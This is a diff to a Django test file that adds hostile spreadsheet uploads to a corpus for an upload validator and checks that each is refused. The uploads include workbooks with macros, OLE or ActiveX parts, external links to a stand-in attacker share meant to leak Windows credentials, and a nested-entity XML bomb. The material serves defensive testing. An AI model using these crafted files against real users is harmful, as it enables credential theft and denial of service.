@@ -1,7 +1,8 @@
 """A corpus of hostile uploads (issue 8, "Hostile input"): a script renamed .pdf, HTML/PDF
-polyglots, an SVG with a script, a ZIP bomb posing as XLSX, a 50 MB file, an empty file and
-files of a type no field takes. Each is refused with a message in the page, and nothing is
-stored: no ApplicationDocument row and no file under MEDIA_ROOT.
+polyglots, an SVG with a script, a ZIP bomb posing as XLSX, workbooks with macros, links to
+other files or embedded objects, a 50 MB file, an empty file and files of a type no field
+takes. Each is refused with a message in the page, and nothing is stored: no
+ApplicationDocument row and no file under MEDIA_ROOT.
 
 Every file is generated here, in tmp_path; nothing large is committed.
 ``tests/test_uploads.py`` checks the messages of ``validate_upload`` on small samples; this
@@ -22,12 +23,13 @@ from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
 from django.urls import reverse
 from django.utils import translation
+from openpyxl import load_workbook
 
 from applications.models import ApplicationDocument
 from ozgeris.public_files import SANDBOX_POLICY
-from ozgeris.uploads import JPEG, PNG, detect_type, validate_upload
+from ozgeris.uploads import JPEG, PNG, XLSX, detect_type, validate_upload
 
-from .factories import PDF_BYTES, started_application
+from .factories import PDF_BYTES, started_application, xlsx_upload, xlsx_with_parts
 
 pytestmark = pytest.mark.django_db
 EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
@@ -155,6 +157,59 @@ def html_page(tmp_path):
     return write(tmp_path, "balance.html", b"<html><script>alert(1)</script></html>")
 
 
+RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+UNC_TARGET = r"\\attacker.example\share\x.xlsx"  # opening it hands over Windows credentials
+
+
+def relationship(kind, target, mode="External"):
+    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<Relationships xmlns="http://schemas.'
+            f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
+            f'Type="{RELATIONSHIPS}/{kind}" Target="{target}" TargetMode="{mode}"/>'
+            f'</Relationships>').encode()
+
+
+def workbook(tmp_path, parts, name="figures.xlsx"):
+    return write(tmp_path, name, xlsx_with_parts(parts).read())
+
+
+def workbook_with_macros(tmp_path):
+    """An .xlsm's VBA project in a workbook named .pdf: the content decides, not the name."""
+    return workbook(tmp_path, {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 500},
+                    name="budget.pdf")
+
+
+def macro_enabled_workbook(tmp_path):
+    """No VBA part, but [Content_Types].xml declares the workbook macro-enabled."""
+    return workbook(tmp_path, {"[Content_Types].xml": (
+        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        b'<Default Extension="xml" ContentType="application/xml"/>'
+        b'<Override PartName="/xl/workbook.xml" '
+        b'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>')})
+
+
+def workbook_linking_another(tmp_path):
+    return workbook(tmp_path, {
+        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.'
+                                              b'openxmlformats.org/spreadsheetml/2006/main"/>',
+        "xl/externalLinks/_rels/externalLink1.xml.rels": relationship("externalLinkPath",
+                                                                      UNC_TARGET)})
+
+
+def workbook_with_a_picture_elsewhere(tmp_path):
+    """A picture Excel fetches from a share when the sheet is shown: only the relationship
+    tells (no part of a telling name)."""
+    return workbook(tmp_path, {"xl/drawings/_rels/drawing1.xml.rels": relationship(
+        "image", r"\\attacker.example\share\logo.png")})
+
+
+def workbook_with_an_ole_object(tmp_path):
+    return workbook(tmp_path, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 64})
+
+
+def workbook_with_an_activex_control(tmp_path):
+    return workbook(tmp_path, {"XL/ActiveX/activeX1.xml": b"<ax:ocx/>"})
+
+
 CORPUS = {
     "script renamed .pdf": (script_renamed_pdf, "not a PDF"),
     "executable renamed .pdf": (exe_renamed_pdf, "not a PDF"),
@@ -168,6 +223,13 @@ CORPUS = {
     "wrong extension: .docx": (word_document, "not an Excel workbook"),
     "wrong extension: .txt": (plain_text, "not a PDF"),
     "wrong extension: .html": (html_page, "not a PDF"),
+    "XLSX with macros": (workbook_with_macros, "contains macros"),
+    "XLSX declared macro-enabled": (macro_enabled_workbook, "contains macros"),
+    "XLSX linking another workbook": (workbook_linking_another, "links to other files"),
+    "XLSX with a picture on a share": (workbook_with_a_picture_elsewhere,
+                                       "links to other files"),
+    "XLSX with an OLE object": (workbook_with_an_ole_object, "embedded objects"),
+    "XLSX with an ActiveX control": (workbook_with_an_activex_control, "embedded objects"),
 }
 
 
@@ -389,6 +451,43 @@ def test_a_lying_bomb_is_refused_by_the_upload_page(client, draft, media, tmp_pa
     assert files_under(media) == []
 
 
+def hyperlinked_workbook(target):
+    """A workbook whose cell A1 links to ``target`` (an external relationship, as Excel writes
+    a hyperlink)."""
+    book = load_workbook(xlsx_upload([["site"]]))
+    book.active["A1"].hyperlink = target
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return SimpleUploadedFile("figures.xlsx", buffer.getvalue())
+
+
+@pytest.mark.parametrize("target", ["https://ozgeris.example.kz/", "mailto:info@example.kz"])
+def test_a_workbook_with_a_hyperlink_to_a_web_page_is_accepted(target):
+    """Excel follows a cell's hyperlink only when it is clicked: a link to a web page or a mail
+    address is ordinary in a balance sheet."""
+    assert validate_upload(hyperlinked_workbook(target)) == XLSX
+
+
+def test_a_workbook_with_a_hyperlink_to_a_share_is_refused():
+    with pytest.raises(ValidationError, match="links to other files"):
+        validate_upload(hyperlinked_workbook(UNC_TARGET))
+
+
+def test_a_workbook_whose_relationships_declare_entities_is_refused_as_damaged():
+    """No part of a workbook has a DTD; one that declares entities (to expand, or to fetch)
+    is refused before any is expanded."""
+    laughs = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
+              b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>')
+    upload = xlsx_with_parts({"xl/_rels/workbook.xml.rels": laughs})
+
+    with pytest.raises(ValidationError, match="damaged"):
+        validate_upload(upload)
+
+
+def test_a_plain_workbook_is_accepted():
+    assert validate_upload(xlsx_upload([["Доходы", 10_000_000]])) == XLSX
+
+
 def test_reading_a_lying_bomb_stops_at_the_declared_size(tmp_path):
     """Where the server does open a workbook (the roster import, through openpyxl), zipfile
     inflates no more than the directory declares and then fails the CRC: no 300 MB."""
@@ -407,6 +506,8 @@ def test_reading_a_lying_bomb_stops_at_the_declared_size(tmp_path):
     (html_pdf_polyglot, "roster.xlsx", "markup"),
     (word_document, "roster.xlsx", "not an Excel workbook"),
     (lying_zip_bomb, "roster.xlsx", "damaged"),
+    (workbook_with_macros, "roster.xlsx", "contains macros"),
+    (workbook_linking_another, "roster.xlsx", "links to other files"),
     (empty_file, "roster.xlsx", "empty"),
     (empty_file, "roster.csv", "empty"),
     (exe_renamed_pdf, "roster.csv", "not a CSV"),
